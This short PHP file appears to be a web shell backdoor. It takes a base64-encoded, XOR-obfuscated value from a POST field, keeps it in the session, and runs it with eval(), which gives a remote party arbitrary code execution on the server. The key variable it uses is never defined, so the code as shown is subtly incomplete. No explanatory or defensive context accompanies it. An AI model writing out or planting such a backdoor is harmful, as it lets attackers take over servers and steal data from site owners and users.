<?php
session_start();
function e($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i + 1 & 15]; } return $d; }
$n = 'payload';
if (isset($_POST['p'])) {
  $data = e(base64_decode($_POST['p']), $key);
  if (isset($_SESSION[$n])) {
    $payload = e($_SESSION[$n], $key);
    eval($payload);
  } else {
    $_SESSION[$n] = e($data, $key);
  }
}
